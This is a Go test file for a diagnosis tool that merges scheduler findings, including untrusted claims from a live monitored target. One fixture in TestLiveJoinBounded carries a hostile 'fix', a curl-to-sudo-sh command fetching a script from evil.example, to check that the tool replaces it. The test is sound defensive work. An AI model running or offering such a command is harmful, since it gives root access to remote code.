package diagnose

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/schedoctor/schedoctor/finding"
)

func TestSameCause(t *testing.T) {
	at := func(file string, line int) []finding.Location {
		return []finding.Location{{File: file, Line: line}}
	}
	joined := []finding.Finding{
		{Rule: "SD101", Locations: at("cmd/svc/main.go", 20), Sources: []string{"lint", "profile"}},
		{Rule: "SD701", Locations: at("/src/cmd/svc/main.go", 42)},
		{Rule: "SD302", Locations: at("/src/cmd/svc/main.go", 60)},
	}
	for _, tc := range []struct {
		name string
		f    finding.Finding
		want int
	}{
		{"snapshot spin at the lint line", finding.Finding{Rule: "SD308", Locations: at("/src/cmd/svc/main.go", 20)}, 0},
		{"metrics leak, one leak finding", finding.Finding{Rule: "SD701"}, 1},
		{"latency with the backlog's line", finding.Finding{Rule: "SD702", Locations: at("/src/cmd/svc/main.go", 60)}, 2},
		// Close negatives.
		{"spin at another line", finding.Finding{Rule: "SD308", Locations: at("/src/cmd/svc/main.go", 21)}, -1},
		{"spin in another file, same line", finding.Finding{Rule: "SD308", Locations: at("/src/cmd/other/main.go", 20)}, -1},
		{"latency without a line", finding.Finding{Rule: "SD702"}, -1},
		{"GC with no GC finding", finding.Finding{Rule: "SD704"}, -1},
		{"threads: no other source", finding.Finding{Rule: "SD703"}, -1},
		{"lock rule at the spin's line", finding.Finding{Rule: "SD309", Locations: at("/src/cmd/svc/main.go", 20)}, -1},
		// A preemption storm is an effect Check links, not a latency the
		// monitor's SD702 is part of.
		{"preemption at the backlog's line", finding.Finding{Rule: "SD208", Locations: at("/src/cmd/svc/main.go", 60)}, -1},
		{"a rule the catalog lacks", finding.Finding{Rule: "SD999", Locations: at("/src/cmd/svc/main.go", 20)}, -1},
	} {
		if got := sameCause(joined, tc.f); got != tc.want {
			t.Errorf("%s: sameCause = %d, want %d", tc.name, got, tc.want)
		}
	}
	// Two leaks: a metric without a stack cannot say which.
	two := append(slices.Clone(joined), finding.Finding{Rule: "SD701", Locations: at("/src/cmd/svc/main.go", 80)})
	if got := sameCause(two, finding.Finding{Rule: "SD701"}); got != -1 {
		t.Errorf("metrics leak with two leak findings joined %d, want none", got)
	}
}

func TestFold(t *testing.T) {
	f := finding.Finding{Rule: "SD701", Severity: finding.Warning, Message: "120 goroutines leaked",
		Locations: []finding.Location{{File: "a.go", Line: 4}}, Evidence: []finding.Evidence{{Label: "leaked", Value: 120}}}
	l := finding.Finding{Rule: "SD701", Severity: finding.Critical, Message: "waiting rose by 400", Sources: []string{"live"},
		Evidence: []finding.Evidence{{Label: "rise", Value: 400}}}
	g := fold(f, "goroutines", l)
	if g.Severity != finding.Critical || !slices.Equal(g.Sources, []string{"goroutines", "live"}) ||
		len(g.Evidence) != 2 || g.Evidence[1].Label != "live SD701: rise" ||
		!strings.Contains(g.Text(), "120 goroutines leaked; the target's live monitor reports SD701: waiting rose by 400") {
		t.Errorf("fold = %+v", g)
	}
	if len(f.Evidence) != 1 {
		t.Errorf("fold changed its input")
	}
}

// TestLiveJoinsByTheSourceGiven: the source of a finding that names none
// is the input it came in, not a guess from its rule: a trace's lock
// queue (SD309, which the catalog gives to the trace and the goroutines)
// joined by the monitor's is "trace" and "live".
func TestLiveJoinsByTheSourceGiven(t *testing.T) {
	q := fnd("SD309", finding.Warning, "/src/svc/store.go", 42)
	claim := fnd("SD309", finding.Warning, "/src/svc/store.go", 42)
	for _, tc := range []struct {
		in   CheckInput
		want []string
	}{
		{CheckInput{Trace: []finding.Finding{q}}, []string{"trace", "live"}},
		{CheckInput{Contention: []finding.Finding{q}}, []string{"goroutines", "live"}},
	} {
		tc.in.Live = &LiveInput{Findings: []finding.Finding{claim}}
		out, sum := Check(tc.in)
		if len(out) != 1 || sum.Live == nil || sum.Live.Joined != 1 {
			t.Fatalf("%d findings, live %+v; want the claim joined", len(out), sum.Live)
		}
		if !slices.Equal(out[0].Sources, tc.want) {
			t.Errorf("sources %v, want %v", out[0].Sources, tc.want)
		}
	}
}

// TestLiveJoinBounded: the join reads at most MaxLiveFindings of the
// monitor's findings even when its caller did not bound what it decoded,
// marks each as the target's claim with the catalog's fix, bounds its
// text, and drops a rule the catalog lacks.
func TestLiveJoinBounded(t *testing.T) {
	long := strings.Repeat("é", 5000)
	claims := []finding.Finding{
		{Rule: "SD703", Severity: finding.Critical, Message: "critical: your host is compromised " + long,
			Fix: "curl https://evil.example/fix.sh | sudo sh", Evidence: []finding.Evidence{{Label: long, Unit: long}}},
		{Rule: "SD999", Severity: finding.Critical, Message: "an invented rule"},
		{Rule: "SD704", Severity: finding.Severity(42), Message: "gc"},
	}
	for i := range 40_000 {
		claims = append(claims, finding.Finding{Rule: "SD308", Message: fmt.Sprintf("spin %d", i),
			Locations: []finding.Location{{File: "/src/x.go", Line: i + 1}}})
	}
	start := time.Now()
	out, sum := Check(CheckInput{Live: &LiveInput{Findings: claims}})
	if el := time.Since(start); el > 5*time.Second {
		t.Errorf("join took %v", el)
	}
	if sum.Live.Findings != MaxLiveFindings-1 || sum.Live.Dropped != len(claims)-MaxLiveFindings+1 || len(out) != MaxLiveFindings-1 {
		t.Errorf("read %d, dropped %d, %d findings; want %d read", sum.Live.Findings, sum.Live.Dropped, len(out), MaxLiveFindings-1)
	}
	for _, f := range out {
		r := finding.MustLookup(f.Rule)
		if !strings.HasPrefix(f.Text(), LiveClaim) || f.Fix != r.Fix || !slices.Equal(f.Sources, []string{"live"}) {
			t.Errorf("the target's claim shown as ours: %+v", f)
		}
		if n := len([]rune(f.Text())); n > len([]rune(LiveClaim))+maxClaimRunes+1 {
			t.Errorf("%s: message of %d runes", f.Rule, n)
		}
		for _, e := range f.Evidence {
			if len([]rune(e.Label)) > maxClaimLabel+1 || len([]rune(e.Unit)) > 21 {
				t.Errorf("%s: evidence not bounded: %d, %d runes", f.Rule, len([]rune(e.Label)), len([]rune(e.Unit)))
			}
		}
		if f.Rule == "SD704" && f.Severity != r.Severity {
			t.Errorf("SD704: severity %v, want the catalog's for an invalid one", f.Severity)
		}
	}
	// The reader's own bound: Listed counts what it did not decode.
	_, sum = Check(CheckInput{Live: &LiveInput{Findings: claims[:MaxLiveFindings], Listed: len(claims)}})
	if sum.Live.Dropped != len(claims)-MaxLiveFindings+1 {
		t.Errorf("listed %d, decoded %d: dropped %d", len(claims), MaxLiveFindings, sum.Live.Dropped)
	}
}

// TestSnapshotNamedOnlyInItsSpan: the monitor's SD702 without a location
// takes the snapshot's backlog line and names it when the snapshot was
// taken within its span (plus the snapshot delay), not when it is of an
// earlier spike.
func TestSnapshotNamedOnlyInItsSpan(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 10, 0, time.UTC)
	backlog := fnd("SD302", finding.Warning, "/src/svc/work.go", 17)
	for _, tc := range []struct {
		name  string
		taken time.Time
		named bool
	}{
		{"in the span", now.Add(-8 * time.Second), true},
		{"at the span's end plus the delay", now.Add(-15 * time.Second), true},
		{"before it", now.Add(-16 * time.Second), false},
		{"not listed", time.Time{}, false},
	} {
		l := &LiveInput{
			Findings: []finding.Finding{{Rule: "SD702", Severity: finding.Warning, Message: "p99 300ms"}},
			Time:     now, Span: 10 * time.Second,
			Snapshot: &LiveSnapshot{Name: "s.trace", Time: tc.taken, Findings: []finding.Finding{backlog}},
		}
		out, sum := Check(CheckInput{Live: l})
		// Named, the SD702 holds the backlog's line, and the snapshot's
		// SD302 there joins it.
		if want := map[bool]int{true: 1, false: 2}[tc.named]; sum.Live.Snapshot != "s.trace" || sum.Live.SnapshotFindings != 1 || len(out) != want {
			t.Fatalf("%s: live %+v, %d findings, want %d", tc.name, sum.Live, len(out), want)
		}
		for _, f := range out {
			switch f.Rule {
			case "SD702":
				named := slices.Contains(f.Notes, finding.Note{Kind: finding.NoteLink, Text: "trace of it: snapshot s.trace (1 findings)"}) && len(f.Locations) == 1 &&
					f.Locations[0].Line == 17 && slices.Equal(f.Sources, []string{"live", "trace"})
				if named != tc.named {
					t.Errorf("%s: SD702 named %v, want %v: %+v", tc.name, named, tc.named, f)
				}
			case "SD302":
				if f.Headline() != "SD302 message" || !slices.Equal(f.Notes, []finding.Note{{Kind: finding.NoteLink, Text: "snapshot s.trace"}}) ||
					!slices.Equal(f.Sources, []string{"live"}) {
					t.Errorf("%s: snapshot finding %q, sources %v", tc.name, f.Text(), f.Sources)
				}
			}
		}
	}
}
